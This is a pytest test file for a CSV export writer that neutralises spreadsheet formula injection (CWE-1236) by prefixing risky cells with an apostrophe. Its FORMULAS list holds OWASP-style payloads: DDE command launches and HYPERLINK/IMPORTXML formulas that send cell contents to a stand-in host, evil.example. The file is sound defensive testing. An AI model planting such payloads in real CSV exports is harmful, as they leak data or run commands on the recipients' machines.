"""CSV formula injection: the one CSV writer of Deskside (deskside/core/csv.py, for the reports
of issue #16; there is no export yet) writes whatever a client typed so that a spreadsheet shows
it as text and runs nothing.

From CWE-1236 (improper neutralisation of formula elements in a CSV file) and OWASP's CSV
Injection page: the DDE and HYPERLINK payloads below are theirs; RFC 4180 for the file's shape.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest

from deskside.core import csv as deskside_csv

BRUSSELS = ZoneInfo("Europe/Brussels")

# Each starts a formula in Excel, LibreOffice or Google Sheets.
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?leak="&A1, "Click for the invoice")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?", A2), "//a")',
]


def written(header, body, tz=None) -> str:
    out = io.StringIO(newline="")
    deskside_csv.write(out, header, body, tz)
    return out.getvalue()


def read_back(text: str) -> list[list[str]]:
    assert text.startswith(deskside_csv.BOM)
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("payload", FORMULAS)
def test_a_cell_that_would_run_is_written_as_text(payload):
    """CWE-1236, OWASP CSV Injection: a client's subject, name or text that starts a formula is
    written with a leading apostrophe; read back, it is the client's text, shown, not run."""
    [header, row] = read_back(written(["subject", "client"], [[payload, payload]]))
    assert header == ["subject", "client"]
    assert row == ["'" + payload, "'" + payload]


def test_text_that_runs_nothing_is_written_as_it_is():
    """OWASP CSV Injection: only the six starts are touched; a formula further in is text
    already, and separators, quotes and line breaks are quoted (RFC 4180 §2)."""
    values = ["Export fails = bad", "a, b; c", 'He said "no"', "two\nlines", "é ß 日本", " =1"]
    [_header, row] = read_back(written(["a"] * len(values), [values]))
    assert row == values


def test_numbers_dates_and_times_are_written_plainly():
    """The writer's own values: numbers stay numbers (-5 is no formula), dates and times are
    ISO 8601 in the zone asked for, nothing is written as None."""
    monday = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
    body = [[-5, Decimal("2.50"), 1.5, True, None, date(2026, 11, 23), monday]]
    [_header, row] = read_back(written(["n"] * 7, body, BRUSSELS))
    assert row == ["-5", "2.50", "1.5", "true", "", "2026-11-23", "2026-11-23T10:00:00+01:00"]


def test_a_time_without_a_zone_is_refused():
    """A naive time would be read in whatever zone the reader is in: refused, not guessed."""
    with pytest.raises(ValueError, match="without a zone"):
        written(["when"], [[datetime(2026, 11, 23, 10, 0)]])


def test_the_file_is_utf8_with_a_byte_order_mark_and_crlf_lines():
    """RFC 4180 §2 (CRLF), and the BOM without which Excel reads UTF-8 as Windows-1252."""
    data = written(["naam"], [["Geëxporteerd"], ["=1+1"]]).encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")
    assert data == "\ufeffnaam\r\nGeëxporteerd\r\n'=1+1\r\n".encode()


def test_a_streamed_file_is_the_same_file():
    """deskside.core.csv.rows() is what a view streams: the same bytes as write(), a line at a
    time, so a report of a million rows is never held whole."""
    body = [["=x", 1], ["b", 2]]
    lines = list(deskside_csv.rows(["a", "n"], iter(body)))
    assert lines[0] == deskside_csv.BOM and len(lines) == 4
    assert "".join(lines) == written(["a", "n"], body)
